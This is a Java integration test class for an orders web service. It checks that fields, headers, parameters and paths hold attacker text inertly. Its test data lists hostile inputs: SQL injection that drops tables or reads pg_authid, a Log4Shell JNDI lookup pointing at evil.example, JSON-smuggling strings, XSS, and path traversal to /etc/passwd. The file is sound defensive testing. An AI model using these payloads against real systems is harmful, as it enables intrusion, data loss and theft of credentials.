package io.thecodeforge.orders.journey;

import static io.thecodeforge.orders.journey.Api.confirm;
import static io.thecodeforge.orders.journey.Api.get;
import static io.thecodeforge.orders.journey.Api.post;
import static io.thecodeforge.orders.journey.Api.put;
import static io.thecodeforge.orders.journey.Api.request;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.oneOf;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.StreamReadFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.thecodeforge.orders.embedded.EmbeddedServersResource;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Text is text: whatever it says to a database, a JSON reader, a log or a file system. */
@QuarkusTest
@WithTestResource(EmbeddedServersResource.class)
class InjectionTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    static Stream<String> texts() {
        return Stream.of(
                "'; drop table users; --",
                "\" or \"\"=\"",
                "1) union select password from pg_authid --",
                "$$; select pg_sleep(9); $$",
                "\\'; select 1; --",
                "a\",\"version\":99,\"x\":\"",
                "\\\",\"version\":99,\"x\":\\\"",
                "\"}],\"items\":[{\"name\":\"x",
                "\\u0022,\\u0022version\\u0022:99",
                "${jndi:ldap://evil.example/a}",
                "#{7*7} ${7*7} {{7*7}} %{7*7}",
                "%s%s%n%n %d {0}",
                "<script>alert(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void every_string_field_is_given_back_as_it_came(String text) {
        String user = idOf(post("/users", json(Map.of("name", text, "email", Api.anAddress()))));
        Map<String, Object> item = Map.of("sku", text, "name", text, "quantity", 1, "unitPrice", 1);
        String shipped = place(user, item);
        String cancelled = place(user, item);
        put("/orders/" + shipped + "/items", json(Map.of("items", List.of(item, item))));
        confirm(shipped);
        post("/orders/" + shipped + "/ship", json(Map.of("carrier", text, "trackingNumber", text)));
        post("/orders/" + cancelled + "/cancel", json(Map.of("reason", text)))
                .then()
                .statusCode(200);

        await().untilAsserted(
                        () -> get("/orders/" + shipped).then().body("status", equalTo("shipped")));
        await().untilAsserted(() ->
                get("/orders/" + cancelled).then().body("status", equalTo("cancelled")));
        JsonNode order = read(get("/orders/" + shipped));
        assertThat(order.get("version").asInt()).isEqualTo(4);
        assertThat(order.findValuesAsText("userName")).containsExactly(text);
        assertThat(order.at("/items/1/sku").asText()).isEqualTo(text);
        assertThat(order.get("itemNames").asText()).isEqualTo(text + ", " + text);
        assertThat(order.at("/delivery/carrier").asText()).isEqualTo(text);
        assertThat(order.at("/delivery/trackingNumber").asText()).isEqualTo(text);
        assertThat(read(get("/orders/" + cancelled)).at("/cancellation/reason").asText())
                .isEqualTo(text);
        assertThat(read(get("/users/" + user)).get("name").asText()).isEqualTo(text);
        assertThat(read(get("/users/" + user + "/orders")).findValuesAsText("userName"))
                .containsExactly(text, text);
        assertThat(read(get("/orders/" + cancelled + "/history")).findValuesAsText("reason"))
                .containsExactly(text);
        assertThat(read(request().queryParam("q", text).get("/orders")).findValuesAsText("userId"))
                .containsOnly(user);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void every_parameter_and_header_is_read_for_what_it_is_or_refused(String text) {
        String user = Api.registerUser("Ada");
        await().untilAsserted(() -> get("/users/" + user).then().statusCode(200));
        await().until(() -> Databases.countInWrite("select count(*) from outbox") == 0);
        List<String> before = Databases.digest();
        for (String name : List.of("status", "placedFrom", "placedTo", "cursor", "page", "size")) {
            request().queryParam(name, text).get("/orders").then().statusCode(400);
            request()
                    .queryParam(name, text)
                    .get("/users/" + user + "/orders")
                    .then()
                    .statusCode(400);
        }
        request().queryParam(text, "1").get("/orders").then().statusCode(400);
        String segment = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        for (String path : List.of("/orders/", "/users/", "/problems/")) {
            request().urlEncodingEnabled(false).get(path + segment).then().statusCode(404);
        }
        request().header("Consistency-Token", text).get("/orders").then().statusCode(400);
        request().header("If-None-Match", text).get("/orders").then().statusCode(200);
        request().header("Prefer", text).get("/orders").then().statusCode(200);
        request()
                .header("If-Match", text)
                .post("/orders/" + user + "/confirm")
                .then()
                .statusCode(oneOf(400, 404));

        assertThat(Databases.digest()).isEqualTo(before);
    }

    @Test
    void a_key_or_name_of_a_request_is_only_a_text() {
        String order = Api.placeOrder(Api.registerUser("Ada"));
        texts().forEach(text ->
                request()
                        .header("Idempotency-Key", text)
                        .header("X-Request-ID", text)
                        .header("X-Correlation-ID", text)
                        .header("traceparent", text)
                        .post("/orders/" + order + "/deliver")
                        .then()
                        .statusCode(409)
                        .body("type", equalTo("/problems/order-state")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../../../../etc/passwd",
                "/schemas/../../../application.properties",
                "/schemas/..%2f..%2f..%2fapplication.properties",
                "/schemas/%2e%2e/%2e%2e/application.properties",
                "/schemas/%252e%252e%252fapplication.properties",
                "/schemas/..\\..\\application.properties",
                "/schemas/..%5c..%5capplication.properties",
                "/schemas//etc/passwd",
                "/schemas/OrderPlaced.v1.json%00.txt",
                "/META-INF/resources/asyncapi.yaml",
                "/application.properties",
                "/db/write/V1__users_and_orders.sql",
                "/./admin/../admin/projections",
                "//admin//projections",
                "/admin/projections;x=y",
                "/%61dmin/projections",
                "/ADMIN/projections"
            })
    void no_path_leads_out_of_what_is_served_or_past_its_rule(String path) throws IOException {
        try (Wire wire = new Wire()) {
            wire.say("GET " + path + " HTTP/1.1", "Host: orders", "");
            Wire.Answer answer = wire.answer();

            assertThat(answer.status()).as(answer.body()).isIn(400, 401, 404);
            assertThat(answer.body()).doesNotContain("root:", "quarkus.", "create table", "lag");
        }
    }

    private static String place(String user, Map<String, Object> item) {
        return idOf(post("/orders", json(Map.of("userId", user, "items", List.of(item)))));
    }

    private static String idOf(Response created) {
        return created.then().statusCode(201).extract().path("id");
    }

    /** Strictly: a body that says one name twice would be an injection that worked. */
    private static JsonNode read(Response answer) {
        try {
            return JSON.reader()
                    .with(StreamReadFeature.STRICT_DUPLICATE_DETECTION)
                    .readTree(answer.asString());
        } catch (JsonProcessingException e) {
            throw new AssertionError(answer.asString(), e);
        }
    }

    private static String json(Map<String, ?> body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
